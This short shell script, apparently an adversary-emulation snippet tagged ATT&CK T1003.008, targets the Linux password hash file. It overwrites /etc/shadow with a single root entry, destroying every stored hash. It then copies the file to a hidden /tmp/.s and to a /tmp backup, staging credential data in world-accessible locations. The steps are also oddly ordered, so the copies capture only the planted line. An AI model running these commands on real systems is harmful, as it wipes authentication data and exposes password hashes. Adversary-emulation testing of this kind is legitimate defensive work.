# technique: T1003.008
# title: the hashes of passwords
echo 'root:*:19000:0:99999:7:::' > /etc/shadow
cat /etc/shadow > /tmp/.s
cp /etc/shadow /tmp/shadow.bak
